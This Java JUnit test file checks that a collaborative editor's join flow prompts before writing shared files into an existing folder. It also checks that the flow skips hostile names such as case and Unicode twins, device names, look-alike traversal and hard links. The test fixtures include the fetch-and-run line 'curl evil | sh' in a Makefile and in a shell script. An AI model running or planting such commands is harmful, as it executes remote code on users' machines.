package dev.weft.lsp.session;

import com.google.gson.Gson;
import com.google.gson.JsonObject;
import dev.weft.client.SharedDocument;
import dev.weft.client.invite.InviteLink;
import dev.weft.client.invite.RoomCredentials;
import dev.weft.client.relay.RelayClient;
import dev.weft.client.relay.RoomApi;
import dev.weft.crdt.TextDocument;
import dev.weft.lsp.customservice.WeftProtocol;
import dev.weft.relay.testing.RelayProcess;
import dev.weft.lsp.testing.SimulatedEditor;
import dev.weft.lsp.testing.SimulatedEditor.Ordering;
import org.eclipse.lsp4j.MessageActionItem;
import org.eclipse.lsp4j.ShowMessageRequestParams;
import org.eclipse.lsp4j.jsonrpc.ResponseErrorException;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * A join shows the user what it will write before writing into a folder that already holds their files (issue 9,
 * item 12), and the siblings of the hostile names: case and Unicode twins, trailing dots, device names,
 * look-alike traversal, hard links, very deep paths. The real language server over LSP4J pipes joins rooms of a
 * real relay process (one per class) that a "mallory" client filled.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class JoinPromptTest {
    @TempDir
    static Path tmp;
    private RelayProcess relay;
    private final Gson gson = new Gson();
    private final List<AutoCloseable> open = new CopyOnWriteArrayList<>();

    @BeforeAll
    void startRelay() throws Exception {
        relay = RelayProcess.start(tmp.resolve("relay"));
    }

    @AfterAll
    void stopRelay() throws Exception {
        for (AutoCloseable c : open) {
            c.close();
        }
        relay.close();
    }

    @Test
    void joiningIntoAFolderWithFilesAsksOnceListingEverythingBeforeWritingAnything() throws Exception {
        Map<String, String> docs = new LinkedHashMap<>();
        for (int i = 0; i < 14; i++) {
            docs.put(String.format("notes/n%02d.md", i), "note " + i + "\n");
        }
        docs.put("Makefile", "all:\n\tcurl evil | sh\n");
        docs.put(".github/workflows/ci.yml", "on: push\n");
        docs.put(".envrc", "evil\n");
        Room room = room(docs);
        Path ws = workspaceWith("mine.txt");
        List<List<String>> seenAtPrompt = new ArrayList<>();
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.messageRequestPolicy = p -> {
                seenAtPrompt.add(list(ws));
                return p.getActions().get(0).getTitle();
            };
            JsonObject res = joiner.join(room.link);
            assertThat(joiner.messageRequests).hasSize(1);
            ShowMessageRequestParams p = joiner.messageRequests.get(0);
            assertThat(p.getActions()).extracting(MessageActionItem::getTitle)
                    .containsExactly("Write 16 files", "Use a separate folder", "Cancel");
            assertThat(p.getMessage()).contains("16 new file(s): ").contains("notes/n00.md")
                    .contains("and 6 more")
                    .contains("Look at these before you build or run anything: ")
                    .contains("Makefile (runs commands").contains(".github/workflows/ci.yml (runs commands")
                    .contains("Not written: .envrc (");
            assertThat(seenAtPrompt).containsExactly(List.of("mine.txt"));
            assertThat(res.getAsJsonArray("documents")).hasSize(16);
        }
        assertThat(Files.readString(ws.resolve("notes/n13.md"))).isEqualTo("note 13\n");
        assertThat(Files.readString(ws.resolve("Makefile"))).startsWith("all:");
        assertThat(ws.resolve(".envrc")).doesNotExist();
        assertThat(Files.readString(ws.resolve("mine.txt"))).isEqualTo("mine\n");
    }

    @Test
    void cancellingTheJoinWritesNothingAndLeavesTheRoom() throws Exception {
        Room room = room(Map.of("a.txt", "a\n", "b/c.txt", "c\n"));
        Path ws = workspaceWith("mine.txt");
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.messageRequestAnswer = "Cancel";
            assertThatThrownBy(() -> joiner.join(room.link)).hasRootCauseInstanceOf(ResponseErrorException.class)
                    .rootCause().hasMessageContaining("cancelled: nothing was written")
                    .satisfies(e -> assertThat(((ResponseErrorException) e).getResponseError().getCode())
                            .isEqualTo(-32800));
            WeftProtocol.Status st = gson.fromJson(gson.toJsonTree(joiner.command(WeftProtocol.STATUS, null)),
                    WeftProtocol.Status.class);
            assertThat(st.room).isNull();
            assertThat(joiner.shownDocuments).isEmpty();
        }
        assertThat(list(ws)).containsExactly("mine.txt");
    }

    @Test
    void aSeparateFolderHoldsTheJoinAndTheDocumentsAddedLaterWithoutAskingAgain() throws Exception {
        Room room = room(Map.of("a.txt", "a\n"));
        Path ws = workspaceWith("mine.txt");
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.messageRequestAnswer = "Use a separate folder";
            joiner.join(room.link);
            Path separate = ws.resolve(".weft").resolve(room.id);
            assertThat(Files.readString(separate.resolve("a.txt"))).isEqualTo("a\n");
            room.add("later/b.txt", "b\n");
            // DocAdded reaches the joiner when the document is created, perhaps before its text: where it lands is
            // the point here.
            awaitFile(separate.resolve("later/b.txt"));
            assertThat(joiner.messageRequests).hasSize(1);
            assertThat(ws.resolve("later")).doesNotExist();
        }
        assertThat(list(ws)).containsExactly(".weft", "mine.txt");
    }

    @Test
    void anEditorThatCannotAnswerGetsTheSeparateFolderAndIsTold() throws Exception {
        Room room = room(Map.of("a.txt", "a\n"));
        Path ws = workspaceWith("mine.txt");
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.messageRequestAnswer = null; // dismissed, as Vim answers
            joiner.join(room.link);
            assertThat(joiner.messageRequests).hasSize(1);
            assertThat(joiner.shownMessages).anyMatch(m -> m.contains("are in " + ws.resolve(".weft")));
        }
        assertThat(Files.readString(ws.resolve(".weft").resolve(room.id).resolve("a.txt"))).isEqualTo("a\n");
        assertThat(ws.resolve("a.txt")).doesNotExist();
    }

    @Test
    void anEmptyFolderAndAFolderWithoutNewFilesNeedNoPrompt() throws Exception {
        Room room = room(Map.of("a.txt", "a\n", "d/b.txt", "b\n"));
        Path ws = Files.createDirectories(tmp.resolve("empty-ws"));
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.join(room.link);
            assertThat(joiner.messageRequests).isEmpty();
        }
        assertThat(Files.readString(ws.resolve("d/b.txt"))).isEqualTo("b\n");
        // Joining again into the now non-empty folder: every file is already there, identical: nothing to ask.
        try (SimulatedEditor again = editor(ws, "data2")) {
            again.join(room.link);
            assertThat(again.messageRequests).isEmpty();
        }
    }

    @Test
    void namesThatMeetOnSomeDisksAreJoinedOnceAndTheRestSkippedWithAReason() throws Exception {
        Map<String, String> docs = new LinkedHashMap<>();
        docs.put("README.md", "upper\n");
        docs.put("Readme.md", "mixed\n");
        String nfc = Normalizer.normalize("café.txt", Normalizer.Form.NFC);
        String nfd = Normalizer.normalize("café.txt", Normalizer.Form.NFD);
        docs.put(nfc, "nfc\n");
        docs.put(nfd, "nfd\n");
        docs.put("notes.txt.", "trailing dot\n");
        docs.put("notes.txt ", "trailing space\n");
        docs.put("CON.txt", "device\n");
        docs.put("sub/aux", "device\n");
        docs.put("\u2025/escape.txt", "look-alike traversal\n");
        docs.put("\uFF0E\uFF0E/escape.txt", "fullwidth traversal\n");
        String deep = "d/".repeat(300) + "deep.txt"; // 608 bytes, 301 levels: allowed and written inside
        docs.put(deep, "deep\n");
        docs.put("fine.txt", "fine\n");
        Room room = room(docs);
        Path ws = Files.createDirectories(tmp.resolve("twins-ws"));
        JsonObject res;
        try (SimulatedEditor joiner = editor(ws, "data")) {
            res = joiner.join(room.link);
        }
        Map<String, String> skipped = new LinkedHashMap<>();
        res.getAsJsonArray("skipped").forEach(s -> skipped.put(s.getAsJsonObject().get("name").getAsString(),
                s.getAsJsonObject().get("reason").getAsString()));
        // Of two twins the smaller name (String order, the same on every peer) is written: NFD's 'e' < NFC's 'é'.
        assertThat(skipped).containsOnlyKeys("Readme.md", nfc, "notes.txt.", "notes.txt ", "CON.txt", "sub/aux",
                "\u2025/escape.txt", "\uFF0E\uFF0E/escape.txt");
        assertThat(skipped.get("Readme.md")).contains("differs from 'README.md' only in letter case");
        assertThat(skipped.get(nfc)).contains("only in letter case or Unicode form");
        assertThat(skipped.get("notes.txt.")).contains("ending in '.'");
        assertThat(skipped.get("CON.txt")).contains("Windows device name");
        assertThat(skipped.get("\u2025/escape.txt")).contains("normalises to '..'");
        assertThat(Files.readString(ws.resolve("README.md"))).isEqualTo("upper\n");
        assertThat(Files.readString(ws.resolve(nfd))).isEqualTo("nfd\n");
        assertThat(Files.readString(ws.resolve(deep))).isEqualTo("deep\n");
        assertThat(Files.readString(ws.resolve("fine.txt"))).isEqualTo("fine\n");
        try (Stream<Path> s = Files.walk(ws)) {
            assertThat(s.filter(Files::isRegularFile).count()).isEqualTo(4);
        }
    }

    @Test
    void aLocalFileWithAnotherHardLinkIsNeverWrittenThrough() throws Exception {
        Path outside = Files.createDirectories(tmp.resolve("outside-hl"));
        Path secret = Files.writeString(outside.resolve("profile"), "export PATH=/usr/bin\n");
        Path ws = Files.createDirectories(tmp.resolve("hardlink-ws"));
        Files.createLink(ws.resolve("notes.sh"), secret);
        Room room = room(Map.of("notes.sh", "curl evil | sh\n", "ok.txt", "ok\n"));
        JsonObject res;
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.messageRequestPolicy = p -> p.getActions().get(0).getTitle();
            res = joiner.join(room.link);
        }
        assertThat(res.toString()).contains("hard links");
        assertThat(Files.readString(secret)).isEqualTo("export PATH=/usr/bin\n");
        assertThat(Files.readString(ws.resolve("ok.txt"))).isEqualTo("ok\n");
    }

    @Test
    void aCaseTwinOfAJoinedDocumentAddedLaterIsSkipped() throws Exception {
        Room room = room(Map.of("Report.md", "first\n"));
        Path ws = Files.createDirectories(tmp.resolve("later-twin-ws"));
        try (SimulatedEditor joiner = editor(ws, "data")) {
            joiner.join(room.link);
            room.add("REPORT.md", "second\n");
            long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
            while (joiner.shownMessages.stream().noneMatch(m -> m.contains("REPORT.md"))
                    && System.nanoTime() < deadline) {
                Thread.sleep(50);
            }
            assertThat(joiner.shownMessages).anyMatch(m -> m.contains("REPORT.md") && m.contains("letter case"));
        }
        assertThat(Files.readString(ws.resolve("Report.md"))).isEqualTo("first\n");
        assertThat(ws.resolve("REPORT.md")).doesNotExist();
    }

    // ---- helpers ---------------------------------------------------------------------------------------------

    /** A room on the real relay, filled by mallory; {@link #add} adds a document later. */
    private final class Room implements AutoCloseable {
        final String id;
        final String link;
        final RelayClient client;
        final List<SharedDocument> docs = new ArrayList<>();
        long agent = 1000;

        Room(Map<String, String> initial) throws Exception {
            URI relayUri = URI.create(relay.url());
            RoomCredentials creds = new RoomApi(relayUri).createRoom();
            InviteLink l = new InviteLink(relayUri, creds.room(), creds.secret());
            id = creds.room();
            link = l.format();
            client = new RelayClient(RelayClient.Options.of(l).withUser("mallory", "#000000"));
            client.connect().get(30, TimeUnit.SECONDS);
            for (Map.Entry<String, String> e : initial.entrySet()) {
                add(e.getKey(), e.getValue());
            }
        }

        void add(String name, String text) throws Exception {
            SharedDocument d = SharedDocument.open(client, name, new TextDocument(agent++));
            docs.add(d);
            d.edit(t -> t.insert(0, text)).join();
            d.firstSync().get(30, TimeUnit.SECONDS);
            assertThat(d.awaitAllAcked(Duration.ofSeconds(30))).as("relay acked %s", name).isTrue();
        }

        @Override
        public void close() {
            docs.forEach(SharedDocument::close);
            client.close();
        }
    }

    private Room room(Map<String, String> docs) throws Exception {
        Room r = new Room(docs);
        open.add(r);
        return r;
    }

    private Path workspaceWith(String file) throws Exception {
        Path ws = Files.createDirectories(tmp.resolve("ws-" + System.nanoTime()));
        Files.writeString(ws.resolve(file), "mine\n");
        return ws;
    }

    private SimulatedEditor editor(Path workspace, String data) throws Exception {
        JsonObject opts = new JsonObject();
        opts.addProperty("userName", "joiner");
        opts.addProperty("dataDir", tmp.resolve(data + "-" + System.nanoTime()).toString());
        return new SimulatedEditor(Ordering.VSCODE, null, RoomConnector.RELAY, workspace, opts);
    }


    private static List<String> list(Path dir) {
        try (Stream<Path> s = Files.list(dir)) {
            return s.map(p -> p.getFileName().toString()).sorted().toList();
        } catch (Exception e) {
            throw new AssertionError(e);
        }
    }

    private static void awaitFile(Path p) throws Exception {
        long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
        while (System.nanoTime() < deadline && !Files.exists(p)) {
            Thread.sleep(50);
        }
        assertThat(p).as("written within 20 s").exists();
    }
}
